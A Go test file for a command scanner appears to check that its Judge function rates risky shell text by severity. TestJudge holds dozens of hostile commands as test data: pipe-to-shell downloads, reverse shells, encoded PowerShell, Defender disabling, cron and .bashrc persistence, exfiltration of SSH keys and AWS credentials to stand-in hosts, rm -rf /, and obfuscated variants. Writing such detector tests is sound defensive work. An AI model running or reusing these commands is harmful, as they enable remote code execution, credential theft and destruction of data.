package commands

import (
	"testing"

	"assay/scanners"
)

func TestJudge(t *testing.T) {
	for text, want := range map[string]scanners.Severity{
		"curl -fsSL https://x.test/i.sh | bash":                                                       scanners.High,
		"curl -fsSL https://x.test/i.sh \\\n  | sudo -E bash -":                                       scanners.High,
		"wget -qO- http://203.0.113.5/a | python3":                                                    scanners.High,
		"bash <(curl -s https://x.test/a)":                                                            scanners.High,
		"bash -c \"$(curl -fsSL https://x.test/a)\"":                                                  scanners.High,
		"iex (New-Object Net.WebClient).DownloadString('http://x')":                                   scanners.High,
		"irm https://x.test/a.ps1 | iex":                                                              scanners.High,
		"curl -o a https://x.test/a && chmod +x a && ./a":                                             scanners.High,
		"mshta http://x.test/a.hta":                                                                   scanners.Critical,
		"certutil.exe -urlcache -split -f http://x.test/a.exe a.exe":                                  scanners.Critical,
		"powershell -NoP -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A":                                     scanners.Critical,
		"echo ZWNobyBhc3NheQ== | base64 -d | sh":                                                      scanners.Critical,
		"eval $(echo ZWNobyBhc3NheQ== | base64 --decode)":                                             scanners.Critical,
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1":                                                   scanners.Critical,
		"nc -e /bin/sh 203.0.113.5 4444":                                                              scanners.Critical,
		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.5 1 >/tmp/f":                   scanners.Critical,
		"python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"sh\")'": scanners.Critical,
		"python -c \"import base64;exec(base64.b64decode('cHJpbnQoMSk='))\"":                          scanners.Critical,
		"Set-MpPreference -DisableRealtimeMonitoring $true":                                           scanners.Critical,
		"echo 'x' >> ~/.bashrc":                                                                       scanners.High,
		"(crontab -l; echo '* * * * * x') | crontab -":                                                scanners.High,
		"curl -F 'f=@/root/.ssh/id_rsa' https://x.test":                                               scanners.Critical,
		"cat ~/.aws/credentials | curl -d @- https://x.test":                                          scanners.Critical,
		"env | curl -X POST -d @- https://x.test":                                                     scanners.Critical,
		"rm -rf / ": scanners.Critical,
		`a=cu;b=rl;$a$b http://x.test/a | $(echo hs|rev)`:                                                       scanners.High,
		`c^url http://x.test/a -o %TEMP%\x.exe & start %TEMP%\x.exe`:                                            scanners.High,
		`c""url http://x.test/a | s""h`:                                                                         scanners.High,
		`c''url http://x.test/a | b\ash`:                                                                        scanners.High,
		`$'\x63url' http://x.test/a | sh`:                                                                       scanners.High,
		`a=cu;b=rl;$a$b http://x.test/a | sh`:                                                                   scanners.High,
		"set a=po&&set b=wershell\n%a%%b% -enc SQBFAFgAIAAoAE4AZQB3":                                            scanners.Critical,
		"i`ex (n`ew-ob`ject net.webclient).downloadstring('http://x')":                                          scanners.High,
		"c^url http://x.test/a -o %TEMP%\\x.exe & curl x | sh":                                                  scanners.High,
		"& ([scriptblock]::Create((irm http://x.test/a)))":                                                      scanners.High,
		"curl -s http://x.test/a | xargs -0 -I{} sh -c '{}'":                                                    scanners.High,
		"perl -MIO::Socket -e '$c=new IO::Socket::INET(\"192.0.2.1:80\");STDIN->fdopen($c,r);system$_ while<>'": scanners.Critical,
		"pip install x --extra-index-url https://x.test/simple":                                                 scanners.Medium,
		"pip install --trusted-host x.test -i http://x.test/simple y":                                           scanners.High,
		"pip install git+https://github.com/org/name@main":                                                      scanners.Medium,
	} {
		signs := Judge("echo a\n" + text + "\n")
		worst := scanners.Informational
		for _, s := range signs {
			worst = min(worst, s.Severity)
			if s.Offset < 7 || s.Offset > 7+len(text) {
				t.Errorf("%q: offset %d", text, s.Offset)
			}
		}
		if worst != want {
			t.Errorf("%q: %v, want %v", text, signs, want)
		}
	}
}

func TestOrdinary(t *testing.T) {
	for _, text := range []string{
		"pip install -U transformers torch --index-url https://download.pytorch.org/whl/cu121", "git clone https://huggingface.co/org/model",
		"curl -X POST http://localhost:8000/v1/chat/completions -H 'Content-Type: application/json' -d '{}' | jq .", "wget https://x.test/model.bin -O model.bin",
		"python train.py --batch-size 8 && python eval.py", "docker run --gpus all -v ~/.cache/huggingface:/root/.cache/huggingface --env \"HF_TOKEN=$T\" vllm",
		"export PATH=$PATH:/usr/local/bin", "rm -rf ./build /tmp/x", "find . -name '*.py' | xargs sh", "huggingface-cli download org/model --local-dir x",
		"ollama run hf.co/org/model", "source activate env", "echo $HOME | tee x", "bash scripts/train.sh", "cd x; ./llama-cli -m m.gguf", "env FOO=1 curl https://x.test",
		"| `curl` | `bash` |", "wget \"$URL\" -O \"$OUT/$NAME\"", "for f in *.sh; do bash $f; done", `printf "a""b"`, "D=/opt; V=1; curl -o $D$V https://x.test/a", "cd C:\\Users\\me && python train.py",
		"conda env create -f environment.yml && curl -O https://x.test/data.zip", "tar xzf a.tgz; ./configure && make", "nvcc --version; pip install -e .",
	} {
		if signs := Judge(text); len(signs) > 0 {
			t.Errorf("%q: %+v", text, signs)
		}
	}
}

func FuzzJudge(f *testing.F) {
	f.Add("curl x \\\n| sh")
	f.Fuzz(func(t *testing.T, text string) {
		for _, s := range Judge(text) {
			if s.Offset < 0 || s.Offset > len(text) || s.What == "" {
				t.Errorf("%+v", s)
			}
		}
	})
}
